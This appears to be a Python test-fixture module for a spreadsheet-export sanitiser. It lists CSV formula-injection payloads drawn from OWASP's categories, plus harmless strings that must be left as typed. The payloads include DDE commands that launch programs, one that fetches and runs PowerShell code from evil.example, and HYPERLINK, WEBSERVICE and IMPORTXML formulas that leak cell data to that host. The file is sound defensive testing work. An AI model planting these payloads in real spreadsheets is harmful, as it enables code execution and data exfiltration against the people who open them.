"""Text that a spreadsheet would evaluate, as a hostile member would type it.

Written for this project; the classes of payloads are those of OWASP's "CSV Injection" page
(formula triggers `=`, `+`, `-`, `@`, tab and carriage return; DDE; data-exfiltration
functions of Google Sheets and Excel) plus blanks before a trigger and the fullwidth forms.
"""

from __future__ import annotations

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "+cmd|' /C notepad'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "=1+1",
    "=SOMME(A1:A9)",
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMAGE("http://evil.example/pixel.png")',
    "\t=1",
    "\r=1",
    "\t\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\n=1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "\uff0bcmd|' /C calc'!A0",  # fullwidth plus
    "=",
    "@",
    "-",
    "+33 6 12 34 56 78",  # a phone number typed in a name field: neutralised too (OWASP)
]
# Text that is not a formula anywhere and must stay exactly as typed.
HARMLESS = [
    "MJC Riom",
    "Association 1+1=2",
    "Centre social\n=1+1",  # a second line starting with "=" is text in every spreadsheet
    "l'été — «\u00a0À la une\u00a0»",
    "'déjà entre apostrophes'",
    "12 rue des Lilas",
]
